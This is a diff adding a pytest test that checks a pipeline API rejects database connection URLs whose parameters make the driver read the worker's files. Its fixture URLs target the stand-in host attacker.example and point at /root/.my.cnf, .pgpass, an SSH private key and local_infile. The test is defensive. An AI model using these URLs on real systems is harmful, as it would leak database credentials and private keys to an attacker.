@@ -163,3 +163,22 @@ def test_the_cli_says_what_a_refused_job_needs(store_url: str) -> None:
     result = run_cli("run", "s", "--wait", store=store_url, env=ENV)
     fails(result, 1, "${SOME_SECRET_VAR}", "SYNCBEAT_SECRET_VARS")
     assert SECRET not in result.stdout + result.stderr
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        # PyMySQL reads the option file, whose host and password win over the URL's.
+        "mysql://x@attacker.example/db?read_default_file=/root/.my.cnf",
+        "postgresql://x@attacker.example/db?passfile=/home/app/.pgpass",
+        "postgresql://x@attacker.example/db?sslkey=/home/app/.ssh/id_rsa",
+        "mysql://x@attacker.example/db?local_infile=1",
+    ],
+)
+def test_url_parameters_that_read_the_workers_files_are_refused(
+    client: httpx.Client, sb: Syncbeat, url: str
+) -> None:
+    parameter = url.rpartition("?")[2].partition("=")[0]
+    message = assert_error(client.post("/pipelines", json=_body("p", url)), 422)
+    assert parameter in message
+    assert sb.pipelines() == []
